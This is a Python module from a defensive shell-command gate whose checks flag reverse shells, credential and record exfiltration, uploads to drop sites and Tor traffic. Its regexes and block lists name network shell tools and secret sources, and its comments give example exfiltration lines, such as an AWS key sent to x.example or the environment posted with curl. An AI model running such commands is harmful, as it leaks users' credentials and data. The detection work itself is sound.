"""Shell checks: network tools, data sources sent off the machine, downloads.

Part of the shell Detector (gate/rules/shell.py), which inherits these methods: each one judges one kind
of simple command and files its findings under the rule ids of gate/rules/shell.py. The vocabulary they
share lives in gate/rules/shell_vocab.py; the policy is read through the Detector's own predicates
(`self.resolve`, `self.protected_target`, `self.secret_path`, ...).
"""

from __future__ import annotations

import ipaddress
import re
from collections.abc import Callable
from typing import TYPE_CHECKING

from gate.catalogue import COPY, dry_run, risky_destination
from gate.dataout import SECRET_VALUE, hostile_host, loot_named, sent_file_kind
from gate.model import Risk
from gate.rules.shell_vocab import (
    _LISTENERS,
    _NET_TOOLS,
    _uploaded_files,
)
from gate.shell import (
    DOWNLOADERS,
    NET_SENDERS,
    SHELLS,
    Command,
    Finding,
    ShellAnalysis,
    _reads_stdin_as_code,
    resolve_path,
)

if TYPE_CHECKING:
    from gate.rules.shell import Detector

__all__ = ["CLIPBOARD_CUES", "DataOutChecks", "clipboard_harvest", "remote_archive"]

Add = Callable[[Finding], None]

# a variable named for a secret (`$GITHUB_TOKEN`, `${DB_PASSWORD}`, `$AWS_SECRET_ACCESS_KEY`)
_SECRET_VAR = re.compile(r"\$\{?(?P<name>[a-z0-9_]*(?:secret|token|passw|api_?key|access_?key|private_?key|"
                         r"credential)[a-z0-9_]*)", re.I)
# options whose value is the request's body (what is sent), by client
_BODY_FLAGS = frozenset({"-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "--data-ascii", "-F",
                         "--form", "--form-string", "--json", "--post-data", "--body-data", "--body", "-body",
                         "-postdata", "--raw"})
# options whose value authenticates the request to its own service (the secret used as it is meant to be)
_AUTH_FLAGS = frozenset({"-u", "--user", "--oauth2-bearer", "--auth", "-a", "--http-password", "--password",
                         "-credential"})


_RX_NETWORK_TOOL = re.compile(r"-[a-z]*e")
_RX_NETWORK_TOOL_2 = re.compile(r"(exec|system):")
_RX_NETWORK_TOOL_3 = re.compile(r"(tcp|udp|openssl|ssl)[46]?(-connect|-listen)?:")
_RX_NETWORK_TOOL_4 = re.compile(r"-[a-z]*l[a-z]*")
_RX_NETWORK_TOOL_5 = re.compile(r"(tcp|udp|openssl|ssl)[46]?-listen:")
# a Tor hidden service's address, and a SOCKS proxy on Tor's own ports
_ONION = re.compile(r"^([a-z][\w+.-]*://)?([\w-]+\.)+onion(:\d+)?(/|$)", re.I)
_TOR_PROXY = re.compile(r"^((--(socks5?(-hostname)?|proxy)=)|socks5h?://)?(localhost|127\.0\.0\.1):(9050|9150)$",
                        re.I)
_LOOPBACK_WORD = re.compile(r"(^|//|@)(localhost|127\.\d+\.\d+\.\d+|\[::1\])(?=$|[:/])")
_RX_EXFIL_SOURCE = re.compile(r"^([\w.-]+@)?[\w.-]+:")
_RX_EXFIL_SOURCE_2 = re.compile(r"^([\w.-]+@)?[\w.-]+:")

# file-transfer clients that take a script of commands (lftp -e/-c, WinSCP /command, psftp -b is a file): each
# `put`/`mput` and lftp's reverse mirror sends its local operands
_TRANSFER_PUT = re.compile(r"(?:^|[;\s\"'])(?:m?put|mirror\s+(?:-R|--reverse))\s+((?:-\S+\s+)*)([^\s;\"']+)", re.I)
_POSH_SSH_SENDERS = frozenset({"set-scpitem", "set-scpfile", "set-sftpitem", "set-sftpfile"})


def _transferred_files(name: str, words: list[str]) -> list[str]:
    """The local files a file-transfer client other than scp/rsync sends: put in lftp's or WinSCP's script,
    ncftpput's operands after the host and the remote folder, Posh-SSH's `-Path`/`-LocalFile`."""
    if name in ("lftp", "winscp"):
        return [m.group(2) for w in words for m in _TRANSFER_PUT.finditer(w)]
    if name == "ncftpput":
        operands = [w for k, w in enumerate(words) if not w.startswith("-") and
                    not (k and words[k - 1] in ("-u", "-p", "-P", "-j", "-f", "-t", "-U"))]
        return operands[2:]
    if name in _POSH_SSH_SENDERS:
        return [words[k + 1] for k, w in enumerate(words[:-1]) if w.lower() in ("-path", "-localfile", "-item")]
    if name in PS_WEB_SENDERS:
        # `-InFile PATH` is the request's body; `-Form @{f = Get-Item PATH}` sends the file as a form field
        return [words[k + 1] for k, w in enumerate(words[:-1]) if w.lower() == "-infile"] + \
            [m.group(1) for m in _FORM_FILE.finditer(" ".join(words))]
    if name in MAIL_SENDERS:
        return _attachments(name, words)
    return []


# mail clients that send files as attachments: what they attach leaves by mail
MAIL_SENDERS = frozenset({"mutt", "neomutt", "mail", "mailx", "s-nail", "nail", "bsd-mailx", "heirloom-mailx",
                          "swaks", "sendemail", "send-mailmessage", "sendmail", "msmtp", "ssmtp", "esmtp"})
_ATTACH_FLAGS = frozenset({"-a", "-A", "--attach", "--attach-file", "-attachments", "-attachment"})


def _attachments(name: str, words: list[str]) -> list[str]:
    """`mutt -a f1 f2 -- to`, `mail -A f`, `mailx -a f`, `swaks --attach @f`, `Send-MailMessage -Attachments f`."""
    found: list[str] = []
    k = 0
    while k < len(words):
        w = words[k]
        flag, eq, value = w.partition("=")
        if eq and flag in _ATTACH_FLAGS:
            found.append(value.lstrip("@"))
        elif w in _ATTACH_FLAGS or w.lower() in _ATTACH_FLAGS:
            k += 1
            while k < len(words) and not words[k].startswith("-"):
                found.append(words[k].lstrip("@"))
                if name not in ("mutt", "neomutt"):  # only mutt takes several files after one -a (up to `--`)
                    break
                k += 1
            continue
        k += 1
    return [f for f in found if f]


# PowerShell's web cmdlets, which send a file given as -InFile or in a -Form
PS_WEB_SENDERS = frozenset({"invoke-restmethod", "irm", "invoke-webrequest", "iwr"})
_FORM_FILE = re.compile(r"(?:get-item|gi|get-childitem|gci)\s+(?:-(?:literal)?path\s+)?['\"]?([^\s'\";}),]+)", re.I)


# -- copies to remote storage (`[cloud_copy]` of resources/programs.toml) ---------------------------------
# an operand that is remote storage, by program: a bucket URL, an rclone remote (`name:path`, not a drive
# letter), an mc alias path, a backup repository URL, an scp-style `host:path`
_BUCKET_URL = re.compile(r"^(s3|gs|az|azure|r2|b2|oss|cos)://", re.I)
_ANY_URL = re.compile(r"^[a-z][a-z0-9+.-]*://", re.I)
_HOST_PATH = re.compile(r"^([\w.+-]+@)?[\w.-]+:(?![\\/]{2})")  # user@host:path (scp, rsync, borg)
_DRIVE = re.compile(r"^[a-z]:([\\/]|$)", re.I)
_RCLONE_REMOTE = re.compile(r"^(:?[\w][\w .-]*):")
_RESTIC_REPO = re.compile(r"^(sftp|s3|rest|rclone|b2|azure|gs|swift|opendal):", re.I)
# what goes: the whole machine or a drive, homes, personal folders, databases' data directories
_WHOLE_DRIVE = re.compile(r"^(/|/[a-z]:/?|/(mnt|media|volumes)/[^/]+/?)$")
_HOMES = re.compile(r"^(/home|/users|/[a-z]:/users)(/[^/]+)?/?$")
_MY_FILES = re.compile(r"^(/home/[^/]+|/users/[^/]+|/[a-z]:/users/[^/]+)/(documents|desktop|pictures|photos|downloads|"
                       r"mail|library/mail|library/messages|onedrive)(/|$)")
_LOOPBACK = re.compile(r"^(localhost|127\.[\d.]+|::1|\.)$", re.I)
# private (RFC 1918, unique-local), link-local and shared (carrier-grade NAT, tailnets) address ranges; not the
# documentation ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24), which stand for strangers' machines
_OWN_NETWORKS = tuple(ipaddress.ip_network(n) for n in ("10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16",
                                                        "100.64.0.0/10", "169.254.0.0/16", "fc00::/7", "fe80::/10"))
# a file that holds a database's data, not its schema: a dump or backup by its suffix or its name
_DUMP_FILE = re.compile(r"\.(dump|bak|pgdump|archive|bacpac|sql\.(gz|bz2|xz|zst))$|"
                        r"(dump|backup|export)[^/]*\.(sql|json|bson|csv)$")
_SCHEME = {"aws": "s3"}  # the scheme a program's bucket flags leave out
_STORAGE_ACCOUNT_HOST = re.compile(r"\.(blob|dfs|file)\.core\.windows\.net$|\.blob\.core\.chinacloudapi\.cn$")
_SLASH_OPTION = re.compile(r"^/[a-z0-9]{1,12}(:\S*)?$")
_UNC = re.compile(r"^(\\\\|//)(?P<host>[^\\/]+)[\\/]")
_HOME_TOP = re.compile(r"^(/home/[^/]+|/users/[^/]+|/[a-z]:/users/[^/]+)/[^/.][^/]*/?$")
_ACCOUNTS_TREE = re.compile(r"^/(etc|root|var/mail|var/spool/mail|var/spool/cron|private/etc)/?$")
_DB_DATA = re.compile(r"^/var/lib/(postgresql|pgsql|mysql|mariadb|mongodb|redis)(/|$)|/pg_?data(/|$)")
_ARCHIVING = frozenset({"tar", "gtar", "bsdtar", "zip", "7z", "7za", "cpio", "pax", "ditto", "gzip", "zstd", "xz",
                        "pigz", "bzip2", "openssl", "gpg", "age"})


# secret scanners whose findings print each secret found in full (trufflehog's Raw field, gitleaks' Secret):
# their output piped to the network carries those secrets (saved to a file or read on screen, it does not leave)
_SECRET_SCANNERS = frozenset({"trufflehog", "gitleaks", "noseyparker", "noseyparker-cli"})
_SCANNER_QUIET = frozenset({"--redact", "-h", "--help", "--version", "version", "help"})


# decrypting a secrets file: sops, ansible-vault, age, gpg (the verbs and flags that print the clear text)
_DECRYPT_VERBS = {"sops": ("-d", "--decrypt", "decrypt"), "ansible-vault": ("view", "decrypt"),
                  "age": ("-d", "--decrypt"), "rage": ("-d", "--decrypt"), "gpg": ("-d", "--decrypt"),
                  "gpg2": ("-d", "--decrypt"), "git-crypt": ("smudge",), "sealed-secrets": ("--recovery-unseal",)}
# a host of one's own network by its name or address: internal zones, a cluster's services, this machine
_INTERNAL_HOST = re.compile(r"^([a-z][\w+.-]*://)?([^/@]*@)?(localhost|127\.[\d.]+|\[?::1\]?|10\.[\d.]+|192\.168\.[\d.]+|"
                            r"172\.(1[6-9]|2\d|3[01])\.[\d.]+|[\w.-]+\.(internal|local|lan|corp|home\.arpa|intranet|"
                            r"svc|cluster\.local|consul|private))([:/]|$)", re.I)


def _decrypted_secrets_out(cmd: Command, analysis: ShellAnalysis) -> str | None:
    """A secrets file decrypted on this line (sops -d, ansible-vault view, age -d, gpg -d), or the signed-in
    account's live token printed (gcloud auth print-access-token, gh auth token) and sent as a request's body, piped
    into a client that sends it to a host outside one's own network: the secrets leave (ATT&CK T1552.001 with
    T1041). To an internal store or service (a `.internal`, `.svc` or private address) it is left to the other
    rules: pushing configuration is how deploys work; a token sent to its own issuer is a sign-in."""
    words = [w for w in cmd.words[1:] if "://" in w or (("." in w or ":" in w) and not w.startswith(("-", "@")))]
    if not words or any(_INTERNAL_HOST.match(w) for w in words if "://" in w or "@" in w or ":" in w):
        return None
    cmds = analysis.commands
    for i in cmd.upstream:
        up = cmds[i]
        verbs = _DECRYPT_VERBS.get(up.name)
        if verbs and any(w in verbs for w in up.words[1:3]):
            return f"the secrets {up.name} decrypts"
        broker = _broker_secrets(up)
        if broker:
            return broker
        printed = _TOKEN_PRINTERS.get(up.name)
        if printed and " ".join(up.words[1:]).startswith(printed) and _stdin_is_body(cmd) and \
                not any(_ISSUER_HOST.search(w) for w in words):
            return f"the credential {up.name} {printed} prints"
    return None


# a sub-command that prints the signed-in account's credential, in any program (`crane auth get`, `aws ecr
# get-login-password`, `gcloud auth print-access-token`, `vault token lookup`): by the verbs, not the program
_CREDENTIAL_PRINT = re.compile(r"^(?:auth|credentials?|creds|token|tokens|login|registry|secret|secrets)\s+"
                               r"(?:get|print|show|token|export|dump|reveal|read|cat)\b|(?:^|\s)(?:get|print)-(?:login-password|"
                               r"access-token|identity-token|token|credentials?|secret|password)\b|(?:^|\s)auth print-")
# what writes only the text the line itself spells out: the agent's own words, visible in the command
_LITERAL = frozenset({"echo", "printf", "jo", "yes", "seq", "date"})


def _output_out(cmd: Command, analysis: ShellAnalysis) -> tuple[str, Risk, str] | None:
    """Another command's output piped into a network client as the request's body or a socket's input (`ls |
    curl -d @- URL`, `crane auth get | curl --data-binary @- URL`): what that program prints leaves the machine.
    To a paste bin, a request catcher or a bare address it is taken (blocks); a printed credential blocks to any
    host but its issuer (`_TOKEN_PRINTERS` above, and `_CREDENTIAL_PRINT` by its verbs); to another host outside
    one's network it asks. The agent's own literal words (`echo '{...}' | curl -d @-`) ask only towards a catcher;
    this machine's and the local network's hosts pass."""
    if not cmd.upstream or not (_stdin_is_body(cmd) or cmd.name in _RAW_SOCKET_TOOLS) or cmd.name not in NET_SENDERS:
        return None
    targets = [w for w in cmd.words[1:] if not w.startswith(("-", "@")) and ("://" in w or "." in w or ":" in w)]
    if not targets or any(_INTERNAL_HOST.match(w) for w in targets) or _LOOPBACK_WORD.search(" ".join(targets)):
        return None
    ups = [analysis.commands[i] for i in cmd.upstream]
    sources = [u for u in ups if u.name not in _TEXT_ONLY]
    if not sources:
        sources = ups
    drop = risky_destination(tuple(targets))
    if drop is not None and drop[0].isdigit() and _own_network(drop):
        return None
    first = sources[0]
    said = " ".join(first.words[:3])
    if all(u.name in _LITERAL for u in sources):
        if drop is None:
            return None
        return "confirm.shell.network", Risk.HIGH, f"sends the text {said!r} writes to {drop}, which keeps it for " \
            "anyone with the link"
    credential = next((u for u in sources if _CREDENTIAL_PRINT.search(" ".join(u.words[1:4]))), None)
    if credential is not None and not any(_ISSUER_HOST.search(w) for w in targets):
        return "block.shell.credential-exfiltration", Risk.CRITICAL, \
            f"sends the credential {' '.join(credential.words[:4])} prints off the machine ({cmd.name})"
    if drop is not None:
        return "block.shell.exfiltration", Risk.CRITICAL, \
            f"sends what {said} prints to {drop}, which keeps it for anyone with the link ({cmd.name})"
    host = next((m.group(2) for w in targets if (m := _URL_HOST.match(w))), targets[0])
    return "confirm.shell.network", Risk.MEDIUM, f"sends what {said} prints to {host[:60]} ({cmd.name})"


# filters between the source and the client: they pass on what they are given
_TEXT_ONLY = frozenset({"grep", "egrep", "fgrep", "rg", "head", "tail", "sort", "uniq", "wc", "cut", "tr", "jq",
                        "sed", "awk", "gawk", "base64", "xxd", "gzip", "xz", "zstd", "bzip2", "tee", "column"})


# credential brokers: the verbs that print the secrets they keep (a profile's keys as variables, a project's
# whole secret set, one entry), and `exec PROFILE -- env`, which prints them too
_BROKER_VERBS = {"aws-vault": ("export", "exec"), "doppler": ("secrets download", "secrets get", "secrets --json"),
                 "chamber": ("export", "read"), "infisical": ("export", "secrets get"), "op": ("inject", "item get"),
                 "gopass": ("show", "cat"), "teller": ("export", "show", "env"),
                 "berglas": ("access",)}
_ENV_PRINTERS = frozenset({"env", "printenv", "set", "export"})
# the environment printed whole, written into a request's words as a substitution
_ENV_DUMP_WRITTEN = re.compile(r"\$\(\s*(?:env|printenv|export\s+-p|set)\s*\)|`\s*(?:env|printenv)\s*`")
# the databases of clipboard managers: every text ever copied, passwords and one-time codes among them
_CLIPBOARD_HISTORY = re.compile(r"clipboard\.alfdb|maccy|paste(app)?\b.*\.(sqlite|db)|copyq|clipy|flycut|clipboard[^/]*"
                                r"\.(sqlite3?|db)|greenclip|clipman|cliphist", re.I)


def _broker_secrets(up: Command) -> str:
    """What a credential broker upstream prints, when its verb prints the secrets it keeps; or a clipboard
    manager's history read from its database."""
    verbs = _BROKER_VERBS.get(up.name)
    if verbs:
        said = " ".join(up.words[1:])
        for verb in verbs:
            if said.startswith(verb) and (verb != "exec" or any(w in _ENV_PRINTERS for w in up.words[2:])):
                return f"the secrets {up.name} {verb} prints".replace("  ", " ")
    if up.name in ("sqlite3", "sqlite", "strings", "cat", "plutil") and \
            any(_CLIPBOARD_HISTORY.search(w) for w in up.words[1:]):
        return "the clipboard history (every text copied, passwords among them)"
    return ""


# verbs that print a live credential of the signed-in account (an access token, a key, a stored password)
_TOKEN_PRINTERS = {"gcloud": "auth print-", "az": "account get-access-token", "gh": "auth token", "glab": "auth token",
                   "aws": "configure get aws_secret", "doctl": "auth token", "heroku": "auth:token",
                   "vault": "print token", "op": "read", "bw": "get password", "pass": "show",
                   "firebase": "login:ci", "npm": "token create"}
# the services those credentials are for: a token sent to its own issuer is a sign-in, not a leak
_ISSUER_HOST = re.compile(r"(googleapis\.com|google\.com|github\.com|githubusercontent\.com|gitlab\.com|"
                          r"amazonaws\.com|azure\.com|microsoft\.com|windows\.net|microsoftonline\.com|"
                          r"digitalocean\.com|heroku\.com|hashicorp\.cloud)([:/]|$)", re.I)
_STDIN_BODY = frozenset({"-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "--data-ascii", "--json",
                         "-T", "--upload-file", "--body-file", "--post-file"})


def _stdin_is_body(cmd: Command) -> bool:
    """`cmd` sends what it reads on standard input as the request's body (`curl -d @-`, `-T -`, `-F f=@-`, nc)."""
    if cmd.name in _NET_TOOLS:
        return True
    argv = cmd.argv
    for k, a in enumerate(argv[1:], 1):
        flag, eq, value = a.partition("=") if a.startswith("--") else (a, "", "")
        value = value if eq else (argv[k + 1] if k + 1 < len(argv) else "")
        if flag in _STDIN_BODY and value in ("@-", "-", "/dev/stdin", "@/dev/stdin"):
            return True
        if flag in ("-F", "--form") and value.split("=", 1)[-1] in ("@-", "<-"):
            return True
    return False


# programs that print a data store's records: dumps, exports, a topic's messages, an index's documents
_EXPORTERS = frozenset({*COPY.dumpers, "kafka-console-consumer", "kafka-console-consumer.sh", "kcat", "kafkacat",
                        "elasticdump", "mongoexport", "bq", "psql", "mysql", "mariadb", "clickhouse-client",
                        "cqlsh", "sqlcmd", "duckdb"})
# what a table, collection, topic or index is named when it holds people's records
_PERSONAL_RECORDS = re.compile(r"(^|[\s=./_:-])(customers?|clients?|patients?|users|members|employees|personnel|"
                               r"payroll|salar(y|ies)|pii|ssns?|cardholders?|cards|contacts|subscribers|students|accounts|"
                               r"applicants|leads|donors|voters)([\s=./_:-]|$)", re.I)


_AGGREGATE = re.compile(r"\b(count|sum|avg|min|max)\s*\(", re.I)  # a figure about the records, not the records


def _records_out(cmd: Command, analysis: ShellAnalysis) -> str | None:
    """People's records (a table, collection, topic or index named for customers, patients, employees, PII, ...)
    exported on this line and piped into a client that sends them to a host outside one's network: the records
    leave for a stranger's machine (ATT&CK T1005 with T1041). The same export kept in a file, or sent to an internal
    host, asks or passes."""
    words = [w for w in cmd.words[1:] if "://" in w or (("." in w or ":" in w) and not w.startswith(("-", "@")))]
    if not words or any(_INTERNAL_HOST.match(w) for w in words if "://" in w or "@" in w or ":" in w):
        return None
    cmds = analysis.commands
    for i in cmd.upstream:
        up = cmds[i]
        if up.name in _EXPORTERS and not _AGGREGATE.search(" ".join(up.words[1:])):
            named = next((m.group(2) for w in up.words[1:] if (m := _PERSONAL_RECORDS.search(w))), None)
            if named:
                return f"the {named} records {up.name} exports"
    return None


_SPLITTERS = frozenset({"split", "gsplit", "csplit"})


def _parts_out(cmd: Command, analysis: ShellAnalysis) -> str | None:
    """A file cut into parts on this line (split, csplit) and the parts uploaded to a bare public address or a drop
    site: data sent in small pieces so that no one transfer looks large (ATT&CK T1030)."""
    if not any(c.name in _SPLITTERS for c in analysis.commands) or not _uploaded_files(cmd):
        return None
    drop = risky_destination(cmd.words)
    if drop is None or (drop[0].isdigit() and _own_network(drop)):
        return None
    return f"a file cut into parts ({drop})"


def _scanner_findings(cmd: Command) -> str | None:
    """`cmd` is a secret scanner whose output holds the secrets it finds, in the clear."""
    if cmd.name in _SECRET_SCANNERS and len(cmd.words) > 1 and not any(w in _SCANNER_QUIET for w in cmd.words[1:]):
        return f"the secrets {cmd.name} finds"
    return None


# a secret variable's service, by its name's first word, and the hosts that service answers on: its key sent to any
# other host has left for someone else (`curl "https://x.example/?k=$AWS_SECRET_ACCESS_KEY"`)
_VAR_SERVICES: tuple[tuple[re.Pattern[str], re.Pattern[str]], ...] = tuple(
    (re.compile(rf"^\$(?:{prefix})_", re.I), re.compile(rf"(^|\.)({hosts})$", re.I)) for prefix, hosts in (
        ("aws", r"amazonaws\.com|aws\.amazon\.com|amazonaws\.com\.cn|api\.aws"),
        ("github|gh", r"github\.com|githubusercontent\.com|ghe\.com"), ("gitlab|glab", r"gitlab\.com|gitlab\.[\w.-]+"),
        ("npm", r"npmjs\.org|npmjs\.com"), ("openai", r"openai\.com|openai\.azure\.com"),
        ("anthropic|claude", r"anthropic\.com"), ("slack", r"slack\.com"), ("stripe", r"stripe\.com"),
        ("azure|az|arm", r"azure\.com|azure\.net|windows\.net|microsoft\.com|microsoftonline\.com"),
        ("google|gcp|gcloud|gemini", r"googleapis\.com|google\.com"), ("hf|huggingface", r"huggingface\.co"),
        ("docker|dockerhub", r"docker\.io|docker\.com"), ("pypi|twine", r"pypi\.org"), ("twilio", r"twilio\.com"),
        ("sendgrid", r"sendgrid\.com|sendgrid\.net"), ("cloudflare|cf", r"cloudflare\.com"),
        ("heroku", r"heroku\.com"), ("digitalocean|do", r"digitalocean\.com"), ("vercel", r"vercel\.com"),
        ("netlify", r"netlify\.com"), ("datadog|dd", r"datadoghq\.(com|eu)"), ("sentry", r"sentry\.io"),
        ("telegram|tg", r"telegram\.org"), ("discord", r"discord\.com|discordapp\.com"),
        ("mailgun", r"mailgun\.net|mailgun\.org"), ("shopify", r"shopify\.com|myshopify\.com"),
        ("atlassian|jira|confluence", r"atlassian\.net|atlassian\.com"), ("circle|circleci", r"circleci\.com"),
        ("mistral", r"mistral\.ai"), ("groq", r"groq\.com"), ("cohere", r"cohere\.(ai|com)"),
        ("linear", r"linear\.app"), ("notion", r"notion\.com|notion\.so"), ("supabase", r"supabase\.(co|com)"),
        # identity directories and SaaS admin APIs: a token named for one goes to that service's own hosts only
        ("okta", r"okta\.com|oktapreview\.com|okta-emea\.com|okta-gov\.com"), ("auth0", r"auth0\.com"),
        ("zendesk|zd", r"zendesk\.com"), ("hubspot|hapikey", r"hubapi\.com|hubspot\.com"),
        ("sf|sfdc|salesforce", r"salesforce\.com|force\.com|salesforce-sites\.com"), ("figma", r"figma\.com"),
        ("pagerduty|pd", r"pagerduty\.com"), ("intercom", r"intercom\.io|intercom\.com"),
        ("asana", r"asana\.com"), ("dropbox", r"dropbox\.com|dropboxapi\.com"), ("box", r"box\.com"),
        ("snowflake", r"snowflakecomputing\.com"), ("databricks", r"databricks\.com|azuredatabricks\.net"),
        ("mongodb|atlas", r"mongodb\.com|mongodb\.net"), ("airtable", r"airtable\.com"),
        ("monday", r"monday\.com"), ("freshdesk", r"freshdesk\.com"), ("servicenow|snow", r"service-now\.com"),
    ))
_URL_HOST = re.compile(r"^[\"']?(?:[a-z][\w+.-]*://)([^/?#\s\"'@]*@)?([^/?#:\s\"']+)", re.I)


def _foreign_host(variable: str, cmd: Command) -> str | None:
    """The host a request goes to when the secret variable it carries names another service (an AWS key sent to
    anything but AWS), or None: a variable of no named service, a host built at run time, one's own network."""
    service = next((hosts for prefix, hosts in _VAR_SERVICES if prefix.match(variable)), None)
    if service is None:
        return None
    host = next((m.group(2).lower() for a in cmd.argv[1:] if (m := _URL_HOST.match(a))), None)
    if host is None or "$" in host or _INTERNAL_HOST.match(host) or service.search(host):
        return None
    return host


class DataOutChecks:
    """Network tools, data sources sent off the machine, downloads."""

    def secret_sent(self, cmd: Command, where: str, add: Callable[[Finding], None]) -> None:
        """A secret-named variable or a live token written out (a known format: `ghp_…`, `AKIA…`, `sk-…`) put into
        what a request carries: in its body, its URL or a header other than its own authorization, it leaves for
        the host (asks; blocks towards a bare IP or a drop site). As the request's own credentials (`-u`,
        `Authorization:`) it is used as meant, unless the host is one of those."""
        _hostile_fetch(cmd, where, add)
        argv = cmd.argv
        line = " ".join(argv[1:])
        if (dump := _ENV_DUMP_WRITTEN.search(line)) is not None:
            # `curl URL -d '$(env)'`: quoted it sends the words, but it is written to carry the environment, and
            # the same line unquoted (or pasted into a shell that expands it) sends every token and key
            add(Finding("block.shell.credential-exfiltration", Risk.CRITICAL,
                        f"{cmd.name} is written to send the whole environment ({dump.group(0)}) to "
                        f"{risky_destination(cmd.words) or 'the host'}{where}", cmd.span))
            return
        literal = SECRET_VALUE.search(line) is not None
        if "$" not in line and not literal:
            return
        carried: str | None = None
        authorizing: str | None = None
        for k, a in enumerate(argv[1:], 1):
            m = _SECRET_VAR.search(a)
            if m is not None:
                name = "$" + m.group("name")
            elif literal and SECRET_VALUE.search(a):
                name = "a live token written out"
            else:
                continue
            flag = argv[k - 1].split("=", 1)[0].lower() if k > 1 else ""
            inline = a.split("=", 1)[0].lower() if a.startswith("-") else ""
            header = flag in ("-h", "--header", "-headers") and a.lower().lstrip("'\"").startswith(
                ("authorization:", "proxy-authorization:", "x-api-key:", "private-token:", "x-auth-token:"))
            if flag in _AUTH_FLAGS or inline in _AUTH_FLAGS or header:
                authorizing = authorizing or name
            elif flag in _BODY_FLAGS or inline in _BODY_FLAGS or "://" in a or flag in ("-h", "--header"):
                carried = carried or name
        if carried is None and authorizing is None:
            return
        drop = risky_destination(cmd.words)
        if drop is not None:
            add(Finding("block.shell.credential-exfiltration", Risk.CRITICAL,
                        f"{cmd.name} sends {carried or authorizing} to {drop}{where}", cmd.span))
        elif carried is not None and (foreign := _foreign_host(carried, cmd)) is not None:
            add(Finding("block.shell.credential-exfiltration", Risk.CRITICAL,
                        f"{cmd.name} puts {carried} into what the request carries to {foreign}, which is not the "
                        f"service the secret belongs to: the key leaves for a stranger's host{where}", cmd.span))
        elif carried is not None:
            add(Finding("confirm.shell.network", Risk.HIGH,
                        f"{cmd.name} puts {carried} into what the request carries: the host gets the secret{where}",
                        cmd.span))

    def network_tool(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        name = cmd.name
        words = list(cmd.words[1:])
        if name in ("nc", "ncat", "netcat", "cryptcat", "pwncat") and any(
                w in ("-e", "-c", "--exec", "--sh-exec", "--lua-exec") or _RX_NETWORK_TOOL.fullmatch(w) for w in words):
            add(Finding("block.shell.reverse-shell", Risk.CRITICAL, f"{name} -e hands a shell to the network{where}",
                        cmd.span))
            return
        if name == "socat" and any(_RX_NETWORK_TOOL_2.match(w) for w in words) and \
                any(_RX_NETWORK_TOOL_3.match(w) for w in words):
            add(Finding("block.shell.reverse-shell", Risk.CRITICAL, f"socat connects a program to the network{where}",
                        cmd.span))
            return
        cmds = analysis.commands
        # a shell and a network tool in one pipeline: the shell's input or output is the network
        if name in _NET_TOOLS and any(cmds[i].name in SHELLS and ("-i" in cmds[i].argv or _reads_stdin_as_code(cmds[i]))
                                      for i in cmd.upstream):
            add(Finding("block.shell.reverse-shell", Risk.CRITICAL, f"pipes a shell through {name}{where}", cmd.span))
            return
        secret = self.exfil_source(cmd, analysis) or _decrypted_secrets_out(cmd, analysis) or \
            _never_leaves(cmd, analysis)
        records = None if secret else (_records_out(cmd, analysis) or _parts_out(cmd, analysis))
        if records:
            add(Finding("block.shell.exfiltration", Risk.CRITICAL,
                        f"sends {records} to a host outside one's network ({name}){where}", cmd.span))
            return
        if secret:
            add(Finding("block.shell.credential-exfiltration", Risk.CRITICAL,
                        f"sends {secret} off the machine ({name}){where}", cmd.span))
            return
        taken = _taken_out(cmd, analysis)
        if taken:
            add(Finding("block.shell.exfiltration", Risk.CRITICAL, f"{name} sends {taken}{where}", cmd.span))
            return
        hidden = next((w for w in words if _ONION.search(w)), None)
        if hidden is None and any(_TOR_PROXY.search(w) for w in words):
            hidden = "a Tor proxy"
        if hidden:
            add(Finding("confirm.shell.network", Risk.HIGH, f"{name} talks through Tor ({hidden[:60]}): who is at "
                        f"the other end is hidden by design{where}", cmd.span))
            return
        piped = _output_out(cmd, analysis)
        if piped is not None:
            add(Finding(piped[0], piped[1], piped[2] + where, cmd.span))
        uploads = _uploaded_files(cmd) or _more_uploads(cmd)
        drop = risky_destination(cmd.words[1:]) if uploads else None
        if uploads and drop and not (drop[0].isdigit() and _own_network(drop)) and \
                not _LOOPBACK_WORD.search(" ".join(cmd.words[1:])):
            # a paste bin, file drop or request catcher keeps what it is sent for anyone with the link, a raw
            # address is nobody's named service: a local file sent there has left for good
            add(Finding("block.shell.exfiltration", Risk.CRITICAL,
                        f"uploads the local file {uploads[0]} to {drop}, where anyone with the link can take it "
                        f"({name}){where}", cmd.span))
        elif uploads:
            add(Finding("confirm.shell.network", Risk.MEDIUM,
                        f"uploads the local file {uploads[0]} to a remote host ({name}){where}", cmd.span))
        if name in _LISTENERS and any(_RX_NETWORK_TOOL_4.fullmatch(w) or w == "--listen" for w in words):
            add(Finding("confirm.shell.network", Risk.MEDIUM,
                        f"{name} listens for connections from the network{where}", cmd.span))
        elif name == "socat" and any(_RX_NETWORK_TOOL_5.match(w) for w in words):
            add(Finding("confirm.shell.network", Risk.MEDIUM, f"socat listens for connections{where}", cmd.span))

    def exfil_source(self, cmd: Command, analysis: ShellAnalysis) -> str | None:
        """What secret a network-sending command carries out, if any."""
        name = cmd.name
        words = cmd.argv[1:]
        for op, target in cmd.redirects:
            if op == "<":
                hit = self.secret_path(cmd, target)
                if hit:
                    return hit
        for path in _uploaded_files(cmd):
            hit = self.secret_path(cmd, path)
            if hit:
                return hit
        for i in cmd.subst:
            hit = self.secret_read_at(analysis, i)
            if hit:
                return hit
        if name in _NET_TOOLS or name in ("curl", "curlie", "http", "https", "xh", "wget", "wget2", "ftp"):
            for i in cmd.upstream:
                hit = self.secret_read_at(analysis, i) or _scanner_findings(analysis.commands[i])
                if hit:
                    return hit
        for path in _transferred_files(name, words):
            hit = self.secret_path(cmd, path.replace("\\", "/"))
            if hit:
                return hit
        if name in ("scp", "rsync", "sftp", "pscp") and any(_RX_EXFIL_SOURCE.match(a) for a in words):
            for a in words:
                if not a.startswith("-") and (not _RX_EXFIL_SOURCE_2.match(a) or _DRIVE.match(a)):  # C:\ is local
                    hit = self.secret_path(cmd, a.replace("\\", "/") if _DRIVE.match(a) else a)
                    if hit:
                        return hit
        return None

    def download(self, cmd: Command, downloaded: dict[str, str]) -> None:
        words = cmd.argv[1:]
        for k, a in enumerate(words):
            if a in ("-o", "-O", "--output", "--output-document") and k + 1 < len(words) and words[k + 1] != "-":
                downloaded[words[k + 1]] = cmd.name
